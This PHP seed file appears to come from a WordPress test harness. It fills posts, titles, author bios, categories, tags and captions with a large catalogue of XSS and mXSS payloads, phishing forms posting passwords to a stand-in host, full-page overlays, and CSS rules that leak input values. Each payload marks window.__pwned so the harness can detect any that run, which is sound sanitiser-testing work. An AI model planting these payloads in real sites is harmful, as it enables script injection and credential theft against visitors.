<?php
// Hostile content, as an administrator with unfiltered_html, an importer or an old plugin can leave it. Every payload that runs sets
// window.__pwned to its own name; each post also has an honest sentence that must stay readable. Kept raw on purpose: do not tidy.

$hostile_dates = 0;
/**
 * A post of named payloads: NAME => markup in which ¤, ¶ (without quotes) and § (from inside a frame) stand for the script. They go through
 * a shortcode, as a plugin's output would: WordPress' typography would otherwise turn some quotes and defuse them by chance ("typography").
 */
$hostile = function (string $slug, string $title, array $payloads, array $more = []) use (&$hostile_dates) {
    $content = paragraphs("Avant : cette phrase honnête de « $slug » doit rester lisible.");
    foreach ($payloads as $name => $markup) {
        // void: a javascript: address that returns a text would replace the page and hide that it ran
        $markup = str_replace(['¤', '¶', '§'], ["void(window.__pwned='$name')", "void(window.__pwned=`$name`)", "void(parent.window.__pwned='$name')"], $markup);
        $content .= "\n\n" . html_block(!empty($more['typography']) ? $markup : '[harness_raw]' . bin2hex($markup) . '[/harness_raw]');
    }
    $content .= "\n\n" . paragraphs("Après : cette phrase aussi.");
    $hostile_dates++;
    return entry($more + [
        'slug' => $slug, 'title' => $title, 'content' => $content,
        'date' => sprintf('2022-03-%02d 10:00:00', $hostile_dates), 'categories' => ['faits-divers'], 'author' => 'redaction', 'picture' => 'petite',
    ]);
};

$b64 = fn (string $name) => base64_encode("<script>parent.__pwned=top.__pwned='$name'</script>");

$hostile('hostile-scripts', 'Hostile : scripts', [
    'script-plain' => '<script>¤</script>',
    'script-uppercase' => '<ScRiPt >¤</sCrIpT >',
    'script-slash' => '<script/x>¤</script/x>',
    'script-newline' => "<script\n\ttype=\"text/javascript\"\n>¤</script\n>",
    'script-module' => '<script type="module">¤</script>',
    'script-data-src' => '<script src="data:text/javascript,window.__pwned=\'script-data-src\'"></script>',
    'script-outside-src' => '<script src="https://mechant.example/x.js"></script>',
    'script-protocol-relative' => '<script src=//mechant.example/y.js></script>',
    'script-nested' => '<scr<script>ipt>¤</scr</script>ipt>',
    'script-in-paragraph' => '<p>Un <b>mot<script>¤</script> gras</b> coupé par un script.</p>',
    'script-json' => '<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>¤</script>"}</script>',
    'script-comment' => '<script><!--' . "\n¤\n" . '--></script>',
    'script-speculation' => '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://mechant.example/"]}]}</script>',
    'script-importmap' => '<script type="importmap">{"imports":{"x":"data:text/javascript,¤"}}</script>',
    'script-in-link' => '<a href="https://example.org/">Lien <script>¤</script>honnête</a>',
    'script-document-write' => '<script>document.write("<img src=x onerror=\"¤\">")</script>',
    'script-unclosed' => '<p>Texte avant un script jamais fermé</p><script>¤',
], ['typography' => true]);

$hostile('hostile-gestionnaires', 'Hostile : gestionnaires d\'événements', [
    'img-onerror' => '<img src=x onerror="¤">',
    'img-onerror-unquoted' => '<img src=x onerror=¶>',
    'img-onerror-upper' => '<IMG SRC=x OnErRoR="¤">',
    'img-onerror-slash' => '<img/src="x"/onerror="¤">',
    'img-onerror-newline' => "<img src=x\nonerror\n=\n\"¤\">",
    'img-onerror-tab' => "<img src=x\tonerror\t=\"¤\">",
    'img-onerror-formfeed' => "<img src=x\x0Conerror=\"¤\">",
    'img-onerror-entity' => '<img src=x onerror="&#119;indow.__pwned=&#39;img-onerror-entity&#39;">',
    'img-onerror-double' => '<img src=x alt="a" onerror="¤" onerror="">',
    'img-onload' => '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="¤">',
    'img-lazy-load' => '<img loading="eager" src=x srcset="y 2x" onerror="¤">',
    'body-onload' => '<body onload="¤">',
    'body-onpageshow' => '<body onpageshow="¤"><p>Corps dans le corps</p></body>',
    'details-ontoggle' => '<details open ontoggle="¤"><summary>Dépliant</summary>Texte du dépliant</details>',
    'video-onerror' => '<video src=x onerror="¤"></video>',
    'video-source-onerror' => '<video><source onerror="¤"></video>',
    'audio-onerror' => '<audio src=x onerror="¤"></audio>',
    'input-onfocus' => '<input autofocus onfocus="¤">',
    'select-onfocus' => '<select autofocus onfocus="¤"></select>',
    'textarea-onfocus' => '<textarea autofocus onfocus="¤">zone</textarea>',
    'button-onfocus' => '<button autofocus onfocus="¤">Bouton</button>',
    'editable-onfocus' => '<p contenteditable tabindex=0 autofocus onfocus="¤">Modifiable</p>',
    'marquee-onstart' => '<marquee onstart="¤">Texte qui défile</marquee>',
    'a-onclick' => '<a href="https://example.org/" onclick="¤">Lien cliquable</a>',
    'p-onmouseover' => '<p onmouseover="¤" onpointerenter="¤" onmouseenter="¤" onfocusin="¤" onwheel="¤">Paragraphe survolé</p>',
    'p-oncopy' => '<p oncopy="¤" oncut="¤" onselectstart="¤" onpointerdown="¤" oncontextmenu="¤">Paragraphe copié</p>',
    'animation' => '<style>@keyframes harnais{from{color:red}}</style><p style="animation:harnais 1ms" onanimationstart="¤" onanimationend="¤">Paragraphe animé</p>',
    'transition' => '<p style="transition:color 1ms" ontransitionend="¤" id="t">Paragraphe</p><style>#t{color:red}</style>',
    'style-onload' => '<style onload="¤"></style>',
    'link-onerror' => '<link rel=stylesheet href=x onerror="¤" onload="¤">',
    'object-onerror' => '<object data=x onerror="¤"></object>',
    'embed-onload' => '<embed src="data:text/html,x" onload="¤">',
    'iframe-onload' => '<iframe onload="¤"></iframe>',
    'custom-onclick' => '<x-element onclick="¤" tabindex=1 onfocus="¤" autofocus>Élément inconnu</x-element>',
    'beforetoggle' => '<button popovertarget=pop>Ouvrir</button><div popover id=pop onbeforetoggle="¤" ontoggle="¤">Surgissant</div>',
    'scroll' => '<div onscroll="¤" onscrollend="¤" style="overflow:auto;height:10px"><p>Défile<br><br><br><span id=bas>bas</span></p></div>',
    'content-visibility' => '<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="¤">Paragraphe visible</p>',
    'figure-onclick' => '<figure class="wp-block-image" onclick="¤"><img src="' . picture_url('petite') . '" onclick="¤" alt="Image cliquable"/><figcaption onclick="¤">Légende</figcaption></figure>',
], ['typography' => true]);

$hostile('hostile-adresses', 'Hostile : adresses', [
    'href-javascript' => '<a href="javascript:¤">Lien 1</a>',
    'href-case' => '<a href="JaVaScRiPt:¤">Lien 2</a>',
    'href-space' => '<a href="  javascript:¤">Lien 3</a>',
    'href-tab' => "<a href=\"java\tscript:¤\">Lien 4</a>",
    'href-newline' => "<a href=\"java\nscript\r:¤\">Lien 5</a>",
    'href-entity-tab' => '<a href="jav&#9;ascript:¤">Lien 6</a>',
    'href-entity-newline' => '<a href="&NewLine;java&Tab;script&colon;¤">Lien 7</a>',
    'href-decimal' => '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;¤">Lien 8</a>',
    'href-decimal-open' => '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058¤">Lien 9</a>',
    'href-hex' => '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;¤">Lien 10</a>',
    'href-control' => "<a href=\"\x01javascript:¤\">Lien 11</a>",
    'href-control-entity' => '<a href="&#14;  javascript:¤">Lien 12</a>',
    'href-comment' => '<a href="javascript://example.org/%0a¤">Lien 13</a>',
    'href-void' => '<a href="javascript:void(¤)">Lien 14</a>',
    'href-unquoted' => '<a href=javascript:¶>Lien 15</a>',
    'href-vbscript' => '<a href="vbscript:msgbox(1)">Lien 16</a>',
    'href-livescript' => '<a href="livescript:¤">Lien 17</a>',
    'href-data-html' => '<a href="data:text/html;base64,' . $b64('href-data-html') . '">Lien 18</a>',
    'href-data-upper' => '<a href="DATA:text/html,<script>¤</script>">Lien 19</a>',
    'href-data-svg' => '<a href="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>">Lien 20</a>',
    'href-blob' => '<a href="blob:https://example.org/0000">Lien 21</a>',
    'href-file' => '<a href="file:///etc/passwd">Lien 22</a>',
    'href-view-source' => '<a href="view-source:javascript:¤">Lien 23</a>',
    'href-feed' => '<a href="feed:javascript:¤">Lien 24</a>',
    'href-intent' => '<a href="intent://mechant.example#Intent;scheme=javascript;end">Lien 25</a>',
    'href-fullwidth' => '<a href="ｊavascript:¤">Lien 26</a>',
    'href-target-opener' => '<a href="https://mechant.example/" target="_blank" rel="opener" ping="https://mechant.example/ping">Lien 27</a>',
    'href-credentials' => '<a href="https://www.banque.example@mechant.example/">Lien 28</a>',
    'href-backslash' => '<a href="\\\\mechant.example\\x">Lien 29</a>',
    'href-download' => '<a download="facture.exe" href="data:application/octet-stream;base64,TVo=">Lien 30</a>',
    'href-twice' => '<a href="https://example.org/" href="javascript:¤">Lien 31</a>',
    'href-xlink' => '<a xlink:href="javascript:¤">Lien 32</a>',
    'href-mailto' => '<a href="mailto:x@example.org?subject=a&body=javascript:¤">Lien 33</a>',
    'area' => '<map name=carte><area shape=rect coords="0,0,999,999" href="javascript:¤"></map><img usemap="#carte" src="' . picture_url('petite') . '" alt="Image à zones">',
    'form-action' => '<form action="javascript:¤"><input type=submit value="Envoyer"></form>',
    'button-formaction' => '<form><button formaction="javascript:¤">Valider</button><input type=image src=x formaction="javascript:¤"></form>',
    'img-src' => '<img src="javascript:¤" alt="Image 1"><img src="  jAvascript:¤" lowsrc="javascript:¤" dynsrc="javascript:¤" alt="Image 2">',
    'img-srcset' => '<img srcset="javascript:¤ 1x, data:text/html,x 2x" src="' . picture_url('petite') . '" alt="Image 3">',
    'img-data-svg' => '<img src="data:image/svg+xml;base64,' . base64_encode('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__pwned=\'img-data-svg\'"/>') . '" alt="Image 4">',
    'img-http' => '<img src="http://mechant.example/pixel.gif" width=1 height=1 alt="">',
    'picture-source' => '<picture><source srcset="javascript:¤" media="(min-width:1px)"><img src="' . picture_url('petite') . '" alt="Image 5"></picture>',
    'video-poster' => '<video poster="javascript:¤" src="javascript:¤"><source src="javascript:¤"><track default src="javascript:¤"></video>',
    'iframe-src' => '<iframe src="javascript:§"></iframe>',
    'iframe-tab' => "<iframe src=\"java\tscript:§\"></iframe>",
    'iframe-data' => '<iframe src="data:text/html;base64,' . $b64('iframe-data') . '"></iframe>',
    'object-data' => '<object data="javascript:¤"></object><object data="data:text/html;base64,' . $b64('object-data') . '"></object>',
    'embed-src' => '<embed src="javascript:¤"><embed src="data:text/html;base64,' . $b64('embed-src') . '">',
    'table-background' => '<table background="javascript:¤"><tr><td background="javascript:¤">Cellule</td></tr></table>',
    'blockquote-cite' => '<blockquote cite="javascript:¤"><p>Citation honnête</p></blockquote><q cite="javascript:¤">mot</q><del cite="javascript:¤">retiré</del>',
    'block-button' => '<div class="wp-block-buttons"><div class="wp-block-button"><a class="wp-block-button__link" href="javascript:¤">Bouton honnête ?</a></div></div>',
    'block-file' => '<div class="wp-block-file"><a href="javascript:¤">Fichier</a><a href="data:text/html,x" class="wp-block-file__button" download>Télécharger</a></div>',
    'block-image-link' => '<figure class="wp-block-image"><a href="javascript:¤"><img src="' . picture_url('petite') . '" alt="Image liée"/></a></figure>',
    'block-embed' => '<figure class="wp-block-embed is-provider-youtube wp-block-embed-youtube"><div class="wp-block-embed__wrapper">' . "\n" . 'javascript:¤//www.youtube.com/watch?v=aqz-KE-bpKQ' . "\n" . '</div></figure>',
    'block-embed-frame' => '<figure class="wp-block-embed is-provider-youtube wp-block-embed-youtube"><div class="wp-block-embed__wrapper"><iframe src="https://www.youtube.com.mechant.example/embed/aqz-KE-bpKQ"></iframe><iframe src="https://www.youtube.com@mechant.example/embed/aqz"></iframe><iframe src="https://www.youtube.com/embed/../redirect?q=https://mechant.example"></iframe><iframe src="https://www.youtube.com/embed/aqz%22%20onload=%22alert(1)"></iframe></div></figure>',
    'tweet-link' => '<blockquote class="twitter-tweet"><p>Message</p>&mdash; X <a href="javascript:¤">1 mai 2024</a></blockquote>',
    'instagram-permalink' => '<blockquote class="instagram-media" data-instgrm-permalink="javascript:¤"><p>Photo</p></blockquote>',
    'footnote' => '<p>Renvoi<sup class="fn" data-fn="x"><a href="javascript:¤" id="x-link">1</a></sup></p><ol class="wp-block-footnotes"><li id="x">Note <a href="javascript:¤">↩</a></li></ol>',
]);

$hostile('hostile-svg-math', 'Hostile : SVG et MathML', [
    'svg-onload' => '<svg onload="¤">',
    'svg-onload-slash' => '<svg/onload=¶></svg>',
    'svg-script' => '<svg><script>¤</script></svg>',
    'svg-script-cdata' => '<svg><script><![CDATA[¤]]></script></svg>',
    'svg-script-entity' => '<svg><script>window.__pwned&#61;&#39;svg-script-entity&#39;</script></svg>',
    'svg-script-href' => '<svg><script href="data:text/javascript,window.__pwned=\'svg-script-href\'" /></svg>',
    'svg-script-xlink' => '<svg><script xlink:href="data:text/javascript,window.__pwned=\'svg-script-xlink\'"></script></svg>',
    'svg-a' => '<svg width=200 height=30><a xlink:href="javascript:¤"><text x=0 y=20>Lien SVG</text></a><a href="javascript:¤"><text x=90 y=20>Autre</text></a></svg>',
    'svg-animate-href' => '<svg width=200 height=30><a><animate attributeName=href values="javascript:¤" /><text x=0 y=20>Lien animé</text></a></svg>',
    'svg-set' => '<svg><a><set attributeName="xlink:href" to="javascript:¤" /><text y=20>Lien posé</text></a></svg>',
    'svg-animate-onbegin' => '<svg><animate onbegin="¤" attributeName=x dur=1s></svg>',
    'svg-set-onend' => '<svg><set onend="¤" attributeName=x dur=1ms></svg>',
    'svg-image-onload' => '<svg><image href="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="¤" onerror="¤" /></svg>',
    'svg-use' => '<svg><use href="data:image/svg+xml;base64,' . base64_encode('<svg id="x" xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect width="99" height="99"/></a></svg>') . '#x" /></svg>',
    'svg-foreign' => '<svg><foreignObject width=99 height=99><img src=x onerror="¤"><p>Texte étranger</p></foreignObject></svg>',
    'svg-foreign-frame' => '<svg><foreignobject><iframe srcdoc="<script>§</script>"></iframe></foreignobject></svg>',
    'svg-style' => '<svg><style>*{background:url("https://mechant.example/")} @import "https://mechant.example/";</style></svg>',
    'svg-discard' => '<svg><discard onbegin="¤"/></svg>',
    'svg-title' => '<svg><title><img src=x onerror="¤"></title></svg>',
    'svg-desc' => '<svg><desc><img src=x onerror="¤"></desc></svg>',
    'svg-handler' => '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">¤</handler></svg>',
    'math-href' => '<math href="javascript:¤">Formule cliquable</math>',
    'math-maction' => '<math><maction actiontype="statusline#https://mechant.example" xlink:href="javascript:¤">Action</maction></math>',
    'math-mtext' => '<math><mtext><img src=x onerror="¤"></mtext></math>',
    'math-annotation' => '<math><annotation-xml encoding="text/html"><img src=x onerror="¤"></annotation-xml></math>',
    'math-script' => '<math><script>¤</script></math>',
    'svg-break-out' => '<svg><p><img src=x onerror="¤"></svg>',
]);

$hostile('hostile-cadres', 'Hostile : cadres et objets', [
    'srcdoc' => '<iframe srcdoc="<script>§</script>"></iframe>',
    'srcdoc-entity' => '<iframe srcdoc="&lt;img src=x onerror=&quot;parent.window.__pwned=\'srcdoc-entity\'&quot;&gt;"></iframe>',
    'srcdoc-with-src' => '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" srcdoc="<script>§</script>"></iframe>',
    'frame-outside' => '<iframe src="https://mechant.example/hameconnage" style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"></iframe>',
    'frame-same-site' => '<iframe src="/wp-login.php"></iframe>',
    'frame-name' => '<iframe name="__pwned" src="about:blank"></iframe>',
    'frameset' => '<frameset><frame src="javascript:§"></frameset>',
    'object-html' => '<object type="text/html" data="data:text/html;base64,' . $b64('object-html') . '"><p>Repli honnête</p></object>',
    'object-params' => '<object classid="clsid:d27cdb6e-ae6d-11cf-96b8-444553540000"><param name="movie" value="https://mechant.example/x.swf"><param name="AllowScriptAccess" value="always"></object>',
    'embed-html' => '<embed type="text/html" src="data:text/html;base64,' . $b64('embed-html') . '">',
    'applet' => '<applet code="X.class" archive="https://mechant.example/x.jar"></applet>',
    'portal' => '<portal src="https://mechant.example/"></portal><fencedframe src="https://mechant.example/"></fencedframe>',
    'frame-content' => '<iframe><img src=x onerror="¤"></iframe>',
    'layer' => '<layer src="https://mechant.example/x.html"></layer><ilayer></ilayer><bgsound src="javascript:¤"><xml id=x></xml>',
]);

$hostile('hostile-formulaires', 'Hostile : formulaires', [
    'phishing' => '<form action="https://mechant.example/voler" method="post"><label>Mot de passe <input type="password" name="mdp" autocomplete="current-password"></label><button>Se connecter</button></form>',
    'outside-button' => '<form id=f action="https://mechant.example/"></form><button form=f formaction="https://mechant.example/2">Suivant</button>',
    'input-image' => '<input type=image src=x onerror="¤">',
    'isindex' => '<isindex action="javascript:¤" type=image>',
    'keygen' => '<keygen autofocus onfocus="¤">',
    'datalist' => '<input list=d><datalist id=d><option value="<script>¤</script>">choix</datalist>',
    'select-option' => '<select onchange="¤"><option>Un<option>Deux</select>',
    'textarea-break' => '<textarea></textarea><img src=x onerror="¤"></textarea>',
    'dialog' => '<dialog open>Fenêtre <form method=dialog><button>Fermer</button></form></dialog>',
    'fieldset' => '<fieldset><legend>Sondage</legend><label><input type=checkbox checked> Oui</label> <output>résultat</output> <meter value=1></meter> <progress></progress></fieldset>',
    'wpcf7' => '<div class="wpcf7"><form action="/2022/03/06/hostile-formulaires/#wpcf7-f1" method="post"><p><input type="text" name="votre-nom"></p><p><textarea name="message"></textarea></p><input type="submit" value="Envoyer"></form></div>',
    'button-type' => '<button type="button" onclick="¤">Cliquer</button>',
]);

$hostile('hostile-styles', 'Hostile : styles, métadonnées, identifiants', [
    'meta-refresh' => '<meta http-equiv="refresh" content="0;url=javascript:¤"><META HTTP-EQUIV="Refresh" CONTENT="1; URL=https://mechant.example/">',
    'meta-csp' => '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    'meta-referrer' => '<meta name="referrer" content="unsafe-url">',
    'base' => '<base href="https://mechant.example/" target="_blank">',
    'link-stylesheet' => '<link rel="stylesheet" href="https://mechant.example/x.css">',
    'link-data' => '<link rel="stylesheet" href="data:text/css,*{display:none!important}">',
    'link-import' => '<link rel="import" href="data:text/html,<script>¤</script>"><link rel=preload as=script href=https://mechant.example/p.js><link rel=prerender href=https://mechant.example/>',
    'style-element' => '<style>body{display:none!important} [data-body]{position:fixed} @import url(https://mechant.example/i.css); input[value^=a]{background:url(https://mechant.example/a)}</style>',
    'style-expression' => '<p style="width:expression(window.__pwned=1);behavior:url(x.htc);-moz-binding:url(https://mechant.example/x.xml#y)">Paragraphe stylé</p>',
    'style-url' => '<p style="background-image:url(javascript:¤);list-style:url(https://mechant.example/l.png)">Autre paragraphe stylé</p>',
    'overlay' => '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff;opacity:.01"><a href="https://mechant.example/" style="display:block;width:100%;height:100%">Recouvrement</a></div>',
    'overlay-class' => '<div class="skip-link site-header drawer modal is-open visually-hidden hidden sr-only">Texte à classes volées</div>',
    'huge' => '<p style="font-size:99999px;line-height:0;margin:-9999px;color:transparent;text-indent:-9999px">Paragraphe énorme</p><img src="' . picture_url('petite') . '" width="99999999" height="99999999" alt="Image énorme">',
    'hidden-text' => '<p hidden>Caché 1</p><p aria-hidden="true">Caché 2</p><p style="display:none">Caché 3</p><p inert>Inerte</p>',
    'clobber-ids' => '<a id="__pwned" href="https://example.org/clobbered">Ancre</a><form id="body" name="body"><input name="attributes" id="firstChild"></form><img name="getElementById" id="cookie" src="' . picture_url('petite') . '" alt="Image nommée"><p id="main">Faux main</p><p id="app">Faux app</p><a id="regard" name="regard">Faux regard</a>',
    'aria' => '<div role="alert" aria-live="assertive">Fausse alerte</div><h1 role="banner">Fausse bannière</h1><p role="main" data-body tabindex="1" accesskey="s">Faux corps</p><nav aria-label="Rubriques">Fausse navigation</nav>',
    'slot' => '<slot name=x>Emplacement</slot><p slot="x" is="x-y" part="x" itemscope itemprop="x" data-hk="0-0-0" data-leptos="1">Attributs de cadriciel</p>',
    'entities' => '<p>&lt;script&gt;window.__pwned=\'entities\'&lt;/script&gt; doit se lire tel quel, et &amp;lt;b&amp;gt; aussi.</p>',
    'bidi' => "<p>Texte \u{202E}retourné\u{202C} et \u{2066}isolé\u{2069}, caractères \u{200B}invisibles\u{FEFF}.</p>",
    'zalgo' => '<p>Z' . str_repeat("\u{0335}\u{0322}\u{0315}\u{031B}", 20) . 'algo</p>',
]);

$hostile('hostile-imbrication', 'Hostile : balises mal fermées', [
    'close-everything' => '</p></div></article></main></body></html><p>Texte après toutes les fermetures</p>',
    'attribute-unclosed' => '<p title="jamais fermé><img src=x onerror=¶>Texte</p><p class="x">Suite</p>',
    'tag-unclosed' => '<b><i><u><a href="https://example.org/"><p>Un</b> deux</p> trois',
    'adoption' => '<b>1<p>2</b>3</p><a href="https://example.org/1">4<div>5<a href="https://example.org/2">6</div>7</a>8',
    'table-foster' => '<table><p>Hors de la table</p><tr><td>Dans la table<tr><b>Entre deux<td>Suite</table>',
    'table-script' => '<table><tr><td><script>¤</script><img src=x onerror="¤"></td></tr><svg onload="¤"></table>',
    'list-loose' => '<li>Élément sans liste<ul>Texte dans la liste<p>et paragraphe</p><li>vrai élément</ul><ol><ul><li>liste dans liste</li></ul></ol>',
    'heading-nested' => '<h2><h3>Titre dans un titre</h3></h2><h2><p>Paragraphe dans un titre</p></h2><p><h4>Titre dans un paragraphe</h4></p>',
    'p-in-p' => '<p>Un <p>deux <blockquote>trois <p>quatre</blockquote> cinq <hr> six',
    'comment-dash' => '<!--><img src=x onerror="¤">-->',
    'comment-bang' => '<!--- --!><img src=x onerror="¤">-->',
    'comment-conditional' => '<!--[if gte IE 4]><script>¤</script><![endif]-->',
    'comment-nested' => '<!-- a <!-- b --> <img src=x onerror="¤"> -->',
    'comment-open' => '<!-' . '- <img src=x onerror="¤"> -' . '-!>fin',
    'cdata' => '<![CDATA[ <img src=x onerror="¤"> ]]>',
    'php' => '<?php echo 1; ?><img src=x onerror="¤"><?xml-stylesheet href="javascript:¤"?>',
    'doctype' => '<!DOCTYPE html [<!ENTITY x "<script>¤</script>">]>&x;',
    'bogus-end' => '</ <img src=x onerror="¤">></x onclick="¤"><//><a/href=javascript:¶>Lien collé</a>',
    'null-ish' => "<scr\u{FFFD}ipt>¤</scr\u{FFFD}ipt><img src=x on\u{FFFD}error=\"¤\">",
    'less-than' => '<p>1 < 2 << 3 <3 <-- <= </p><<img src=x onerror="¤">',
    'nextpage-in-attribute' => '<p title="<!--nextpage-->">Coupure dans un attribut</p><div><!--nextpage--><p>Coupure au milieu d\'un bloc</p></div>',
    'deep' => str_repeat('<div><span>', 700) . 'Au fond de 1400 boîtes' . str_repeat('</span></div>', 700),
    'deep-quotes' => str_repeat('<blockquote>', 300) . '<p>Au fond de 300 citations</p>',
    'deep-lists' => str_repeat('<ul><li>n', 300),
    'many-attributes' => '<p ' . implode(' ', array_map(fn ($i) => "a$i=\"$i\"", range(1, 500))) . '>Cinq cents attributs</p>',
    'select-table' => '<select><table><tr><td>Cellule dans une liste déroulante</select>',
]);

$hostile('hostile-mxss', 'Hostile : ce qui change en se relisant (mXSS)', [
    'noscript-title' => '<noscript><p title="</noscript><img src=x onerror=¶>"></noscript>',
    'noscript-style' => '<noscript><style></noscript><img src=x onerror="¤"></style></noscript>',
    'mglyph' => '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=`mglyph`&gt;">',
    'form-mglyph' => '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="¤">',
    'svg-style' => '<svg></p><style><a id="</style><img src=x onerror=¶>">',
    'svg-style-title' => '<svg><style><a title="</style><img src=x onerror=¶>"></a></style></svg>',
    'math-style' => '<math></br><style><a id="</style><img src=x onerror=¶>">',
    'template' => '<template><img src=x onerror="¤"><script>¤</script><p>Texte du modèle</p></template>',
    'template-shadow' => '<div><template shadowrootmode="open"><img src=x onerror="¤"><slot></slot></template>Texte clair</div>',
    'template-nested' => '<template><template></template><img src=x onerror="¤"></template>',
    'textarea' => '<textarea><img title="</textarea><img src=x onerror=¶>"></textarea>',
    'title' => '<title><img title="</title><img src=x onerror=¶>"></title>',
    'xmp' => '<xmp><p title="</xmp><img src=x onerror=¶>"></xmp>',
    'listing' => '<listing>&lt;img src=x onerror=window.__pwned=`listing`&gt;</listing>',
    'noembed' => '<noembed><img title="</noembed><img src=x onerror=¶>"></noembed>',
    'noframes' => '<noframes><img title="</noframes><img src=x onerror=¶>"></noframes>',
    'iframe-text' => '<iframe><img title="</iframe><img src=x onerror=¶>"></iframe>',
    'style-close' => '<style><img title="</style><img src=x onerror=¶>"></style>',
    'select-template' => '<select><template><img src=x onerror="¤"></template></select>',
    'desc-noscript' => '<svg><desc><noscript>&lt;/noscript&gt;&lt;/desc&gt;&lt;img src=x onerror=window.__pwned=`desc-noscript`&gt;</noscript></desc></svg>',
    'annotation' => '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=¶>"></annotation-xml></math>',
    'table-math' => '<table><math><mi><table><mglyph><nolink><style></style><img src=x onerror="¤">',
    'backtick' => '<img alt="``onerror=window.__pwned=1" src="' . picture_url('petite') . '"><p title="`&gt;&lt;img src=x onerror=¶&gt;">Guillemets penchés</p>',
    'escaped-attribute' => '<p title="&quot;&gt;&lt;img src=x onerror=&quot;window.__pwned=\'escaped-attribute\'&quot;&gt;">Attribut échappé</p><img alt="&lt;img src=x onerror=window.__pwned=`alt`&gt;" src="' . picture_url('petite') . '">',
    'double-escaped' => '<p>&amp;lt;img src=x onerror=window.__pwned=`double-escaped`&amp;gt;</p>',
    'plaintext-last' => '<p>Après ceci, plus rien n\'est du HTML pour un navigateur.</p><plaintext><img src=x onerror="¤">',
]);

// Names, titles, excerpts, captions: not the body, but shown all the same.
$id = $hostile('hostile-titre', 'T', ['body' => '<p>Le danger est dans le titre et dans l\'extrait.</p>'], [
    'excerpt' => 'Extrait honnête <img src=x onerror="window.__pwned=\'excerpt-img\'"> <script>window.__pwned=\'excerpt-script\'</script> <a href="javascript:void(window.__pwned=\'excerpt-link\')">lien</a> fin de l\'extrait',
]);
raw_update('posts', ['post_title' => 'Titre honnête <img src=x onerror="window.__pwned=\'title-img\'"> <svg onload="window.__pwned=\'title-svg\'"></svg> &lt;img src=x onerror=window.__pwned=`title-entity`&gt; fin du titre'], ['ID' => $id]);
clean_post_cache($id);
$id = $hostile('hostile-titre-script', 'T', ['body' => '<p>Le danger est dans le titre : il ferme ce qui l\'entoure.</p>'], ['picture' => 'baobabs']);
raw_update('posts', ['post_title' => '</title></script>--><script>window.__pwned=\'title-script\'</script>Titre qui ferme"\' onmouseover="window.__pwned=\'title-attribute\'" {{7*7}} ${7*7} ]]>'], ['ID' => $id]);
clean_post_cache($id);

// an author, a category, a tag
raw_update('users', ['display_name' => 'Auteur <img src=x onerror="window.__pwned=\'author-img\'"><script>window.__pwned=\'author-script\'</script>" onclick="window.__pwned=\'author-attribute\''], ['ID' => Seed::$users['troll']]);
update_user_meta(Seed::$users['troll'], 'description', 'Biographie honnête <script>window.__pwned=\'bio-script\'</script><img src=x onerror="window.__pwned=\'bio-img\'"> <a href="javascript:void(window.__pwned=\'bio-link\')">lien</a> <style>body{display:none}</style>');
raw_update('users', ['user_url' => 'javascript:void(window.__pwned="author-url")'], ['ID' => Seed::$users['troll']]);
clean_user_cache(Seed::$users['troll']);
$bad = category('Rubrique hostile', Seed::$categories['faits-divers'], 'rubrique-hostile');
raw_update('terms', ['name' => 'Rubrique <img src=x onerror="window.__pwned=\'category-img\'"><script>window.__pwned=\'category-script\'</script> hostile'], ['term_id' => $bad]);
raw_update('term_taxonomy', ['description' => 'Description honnête <script>window.__pwned=\'category-description\'</script><iframe srcdoc="<script>parent.__pwned=\'category-srcdoc\'</script>"></iframe>'], ['term_id' => $bad, 'taxonomy' => 'category']);
clean_term_cache($bad, 'category');
$tag = wp_insert_term('Mot-clef hostile', 'post_tag', ['slug' => 'mot-clef-hostile']);
raw_update('terms', ['name' => '"><img src=x onerror="window.__pwned=\'tag-img\'">mot-clef'], ['term_id' => $tag['term_id']]);
clean_term_cache($tag['term_id'], 'post_tag');
picture('hostile.jpg', 640, 427, 'pattern', ['alt' => 'x']);
$bad_picture = Seed::$pictures['hostile'];
update_post_meta($bad_picture, '_wp_attachment_image_alt', wp_slash('"><img src=x onerror="window.__pwned=\'alt-img\'">Texte de remplacement'));
raw_update('posts', ['post_title' => '<script>window.__pwned=\'media-title\'</script>Image', 'post_excerpt' => 'Légende honnête <img src=x onerror="window.__pwned=\'caption-img\'"><a href="javascript:void(window.__pwned=\'caption-link\')">lien</a>'], ['ID' => $bad_picture]);
clean_post_cache($bad_picture);
$hostile('hostile-auteur', 'Hostile : auteur, rubrique, mot-clef, légende', [
    'caption' => '<figure class="wp-block-image"><img src="' . picture_url('hostile') . '" alt="&quot;&gt;&lt;script&gt;¤&lt;/script&gt;" class="wp-image-' . $bad_picture . '"/><figcaption>Légende <script>¤</script><img src=x onerror="¤"> honnête</figcaption></figure>',
    'gallery' => '<figure class="wp-block-gallery has-nested-images columns-999999999 is-cropped" style="--columns:expression(1)"><figure class="wp-block-image"><img src="javascript:¤" onerror="¤" alt=""/></figure><figure class="wp-block-image"><img src="' . picture_url('petite') . '" alt="Seule vraie image"/></figure></figure>',
], ['author' => 'troll', 'categories' => ['rubrique-hostile'], 'tags' => [(int) $tag['term_id']], 'picture' => 'hostile']);
wp_set_post_terms(Seed::$posts['hostile-auteur'], [(int) $tag['term_id']], 'post_tag');
